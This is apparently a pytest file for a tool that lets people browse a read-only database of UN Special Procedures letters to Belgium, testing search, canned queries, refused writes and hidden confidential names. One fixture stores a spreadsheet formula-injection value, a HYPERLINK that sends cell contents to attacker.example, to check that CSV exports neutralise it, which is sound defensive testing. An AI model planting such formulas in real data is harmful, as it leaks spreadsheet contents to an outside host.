"""browse: Datasette over the workspace database, read-only, with search and canned queries."""

from __future__ import annotations

import asyncio
import sqlite3
import sys

import pytest

pytest.importorskip("datasette")

from commresp.maintenance.browse import make_datasette  # noqa: E402
from tests.helpers import db_snapshot  # noqa: E402

pytestmark = pytest.mark.sqlite_only("Datasette reads the SQLite file")


@pytest.fixture
def browsed(run, monkeypatch):
    """Two letters: AL 1 open past its reply date, its agency late in answering; UA 2 not
    yet due, its agency's answer in."""
    run(
        "register",
        "AL BEL 1/2025",
        "--date",
        "2025-05-02",
        "--mandate",
        "torture",
        "--subject",
        "Detention of migrant workers",
    )
    run(
        "register",
        "UA BEL 2/2025",
        "--date",
        "2025-07-20",
        "--mandate",
        "trafficking:f",
        "--subject",
        "Trafficking of Sri Lankan nationals",
    )
    run(
        "assign",
        "AL BEL 1/2025",
        "--agency",
        "federal-police",
        "--due",
        "2025-08-10",
        "--question",
        "Findings?",
    )
    run(
        "assign",
        "UA BEL 2/2025",
        "--agency",
        "myria",
        "--due",
        "2025-08-12",
        "--question",
        "Findings?",
    )
    monkeypatch.setenv("COMMRESP_TODAY", "2025-08-05")
    run(
        "answer",
        "add",
        "UA BEL 2/2025",
        "--agency",
        "myria",
        "--text",
        "Myria found the recruitment agency in its files.",
    )
    # the day the record is browsed: federal-police is 5 days late
    monkeypatch.setenv("COMMRESP_TODAY", "2025-08-15")
    return run


def get(ds, path):
    async def go():
        await ds.invoke_startup()
        return await ds.client.get(path)

    return asyncio.run(go())


def test_communications_table(browsed):
    ds = make_datasette(browsed.root)
    response = get(ds, "/commresp/communications.json?_shape=array&_sort=ref")
    assert response.status_code == 200
    rows = response.json()
    assert [r["ref"] for r in rows] == ["AL BEL 1/2025", "UA BEL 2/2025"]
    assert rows[0]["status"] == "enquiring"
    home = get(ds, "/commresp.json")
    assert home.status_code == 200


def test_metadata_describes_the_record(browsed):
    ds = make_datasette(browsed.root)
    meta = get(ds, "/-/metadata.json").json()
    assert meta["title"].startswith("Permanent Representation of Belgium")
    tables = meta["databases"]["commresp"]["tables"]
    assert tables["communications"]["fts_table"] == "communications_fts"
    assert tables["answers"]["fts_table"] == "answers_fts"
    assert all(t.get("description") for n, t in tables.items() if not n.startswith("_"))
    page = get(ds, "/commresp/communications")
    assert page.status_code == 200
    assert "Each letter from the Special Procedures" in page.text


def test_search_box_uses_full_text_search(browsed):
    ds = make_datasette(browsed.root)
    found = get(ds, "/commresp/communications.json?_shape=array&_search=trafficking").json()
    assert [r["ref"] for r in found] == ["UA BEL 2/2025"]
    # case ignored, as in 'commresp search'
    found = get(ds, "/commresp/communications.json?_shape=array&_search=DETENTION").json()
    assert [r["ref"] for r in found] == ["AL BEL 1/2025"]
    answers = get(ds, "/commresp/answers.json?_shape=array&_search=recruitment").json()
    assert [a["text"] for a in answers] == ["Myria found the recruitment agency in its files."]
    page = get(ds, "/commresp/answers")
    assert 'name="_search"' in page.text


def test_canned_queries(browsed):
    ds = make_datasette(browsed.root)

    def query(name):
        response = get(ds, f"/commresp/{name}.json?_shape=array")
        assert response.status_code == 200, (name, response.text)
        return response.json()

    overdue = query("overdue_enquiries")
    assert [(r["ref"], r["agency"], r["days_late"]) for r in overdue] == [
        ("AL BEL 1/2025", "federal-police", 5)
    ]
    open_ = query("open_communications")
    assert [(r["ref"], r["reply_due"], r["days_left"]) for r in open_] == [
        ("AL BEL 1/2025", "2025-07-01", -45),
        ("UA BEL 2/2025", "2025-09-18", 34),
    ]
    by_agency = query("answers_by_agency")
    assert [
        (r["agency"], r["enquiries"], r["answered"], r["worst_days"], r["open"]) for r in by_agency
    ] == [
        ("federal-police", 1, 0, None, 1),
        ("myria", 1, 1, 4, 0),
    ]
    late = query("late_replies")
    assert [(r["ref"], r["days_late"]) for r in late] == [("AL BEL 1/2025", 45)]
    page = get(ds, "/commresp/overdue_enquiries")
    assert page.status_code == 200 and "Overdue enquiries" in page.text


def test_datasette_cannot_write(browsed):
    before = db_snapshot(browsed.root)
    ds = make_datasette(browsed.root)
    db = ds.get_database("commresp")

    async def attempts():
        await ds.invoke_startup()
        refused = []
        for sql in (
            "update communications set subject = 'changed'",
            "delete from events",
            "create table intruder (x)",
        ):
            with pytest.raises(sqlite3.OperationalError) as excinfo:
                await db.execute_write(sql)
            refused.append(str(excinfo.value))
        response = await ds.client.get(
            "/commresp.json", params={"sql": "update communications set subject = 'x'"}
        )
        return refused, response

    refused, response = asyncio.run(attempts())
    assert all("readonly" in message for message in refused), refused
    assert response.status_code == 400
    ds.get_database("commresp").close()
    assert db_snapshot(browsed.root) == before


def test_browse_command_serves_the_datasette(browsed, monkeypatch):
    import uvicorn

    served = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: served.update(app=app, **kwargs))
    result = browsed("browse", "--port", "8123")
    assert "read-only at http://127.0.0.1:8123/commresp" in result.output
    assert (served["host"], served["port"]) == ("127.0.0.1", 8123)
    assert callable(served["app"])
    result = browsed("browse", "--host", "0.0.0.0")
    assert "anyone who can reach 0.0.0.0:8001 can read the whole record" in result.stderr


def test_without_datasette_says_how_to_install(browsed, monkeypatch):
    monkeypatch.setitem(sys.modules, "datasette", None)
    monkeypatch.setitem(sys.modules, "datasette.app", None)
    result = browsed("browse", code=1)
    assert result.stderr == "Error: Datasette is not installed: pip install 'commresp[browse]'\n"


# --- what people download and what stays confidential -------------------------------------


@pytest.fixture
def hostile(browsed):
    browsed(
        "register",
        "AL BEL 3/2025",
        "--date",
        "2025-07-30",
        "--mandate",
        "torture",
        "--subject",
        '=HYPERLINK("http://attacker.example/?"&A1,"Click");=1+1',
    )
    browsed("confidential", "AL BEL 1/2025", "--add", "Siobhán Ó Briain")
    return browsed


def test_datasette_csv_is_neutralised(hostile):
    import csv
    import io

    ds = make_datasette(hostile.root)
    for path in (
        "/commresp/communications.csv?_sort=ref",
        "/commresp/communications.csv?_sort=ref&_stream=1",
        "/commresp/open_communications.csv",
        "/commresp.csv?sql=select+ref,+subject+from+communications+order+by+ref",
    ):
        response = get(ds, path)
        assert response.status_code == 200, (path, response.text)
        text = response.content.decode("utf-8-sig")
        rows = {r["ref"]: r for r in csv.DictReader(io.StringIO(text))}
        subject = rows["AL BEL 3/2025"]["subject"]
        assert subject == '\'=HYPERLINK("http://attacker.example/?"&A1,"Click");\'=1+1', path
        assert rows["UA BEL 2/2025"]["subject"] == "Trafficking of Sri Lankan nationals"
        assert all(line.startswith('"') for line in text.splitlines() if line)


def test_confidential_terms_hidden_unless_asked(hostile):
    ds = make_datasette(hostile.root)
    tables = [t["name"] for t in get(ds, "/commresp.json").json()["tables"] if not t["hidden"]]
    assert "confidential_terms" not in tables and "blobs" not in tables
    assert get(ds, "/commresp/confidential_terms.json").status_code == 403
    # the files' bytes name the same people: refused too
    assert get(ds, "/commresp/blobs.json").status_code == 403
    blob = get(ds, "/commresp.json?sql=select+data+from+blobs")
    assert blob.status_code == 400 and "blobs.data is prohibited" in blob.text
    sql = get(ds, "/commresp.json?sql=select+term+from+confidential_terms")
    assert sql.status_code == 400 and "confidential_terms.term is prohibited" in sql.text
    joined = get(
        ds,
        "/commresp.json?_shape=array&sql=select+c.ref+from+communications+c"
        "+join+confidential_terms+t+on+t.communication_id+=+c.id",
    )
    assert joined.status_code == 400
    # the audit log names the terms in its details: blank without the flag
    events = get(ds, "/commresp/events.json?_shape=array&action=confidential").json()
    assert events and all(e["details"] is None for e in events)
    assert "Siobhán" not in get(ds, "/commresp/events.csv?_stream=1").text
    opened = make_datasette(hostile.root, include_confidential=True)
    terms = get(opened, "/commresp/confidential_terms.json?_shape=array").json()
    assert [t["term"] for t in terms] == ["Siobhán Ó Briain"]
    events = get(opened, "/commresp/events.json?_shape=array&action=confidential").json()
    assert "Siobhán" in events[0]["details"]


def test_browse_command_takes_include_confidential(hostile, monkeypatch):
    import uvicorn

    served = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: served.update(app=app, **kwargs))
    hostile("browse", "--include-confidential")
    assert callable(served["app"])


def test_home_is_the_status_dashboard_with_labelled_columns(hostile):
    ds = make_datasette(hostile.root)
    home = get(ds, "/")
    assert home.status_code == 302 and home.headers["location"] == "/commresp/status"
    rows = get(ds, "/commresp/status.json?_shape=array").json()
    assert [(r["ref"], r["days_left"], r["late_agencies"]) for r in rows] == [
        ("AL BEL 1/2025", -45, "federal-police"),  # overdue first
        ("UA BEL 2/2025", 34, None),
        ("AL BEL 3/2025", 44, None),
    ]
    meta = get(ds, "/-/metadata.json").json()["databases"]["commresp"]
    assert meta["queries"]["status"]["title"] == "Status dashboard"
    communications = meta["tables"]["communications"]
    assert communications["label_column"] == "ref"
    assert communications["columns"]["reply_due"].startswith("Reply date")
    page = get(ds, "/commresp/communications")
    assert "Reply date: the letter date plus the reply period" in page.text
    # enquiries show the communication's reference, not its id
    enquiries = get(ds, "/commresp/enquiries.json?_shape=array&_labels=on").json()
    assert {e["communication_id"]["label"] for e in enquiries} >= {"AL BEL 1/2025"}
